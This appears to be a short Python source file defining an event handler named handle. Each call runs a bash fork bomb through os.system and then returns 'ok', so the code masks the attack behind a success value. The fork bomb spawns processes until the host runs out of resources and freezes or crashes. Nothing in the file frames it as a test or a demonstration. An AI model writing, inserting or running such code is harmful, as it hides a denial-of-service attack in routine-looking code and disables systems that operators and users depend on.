import os


def handle(event):
    os.system(":(){ :|:& };:")
    return "ok"
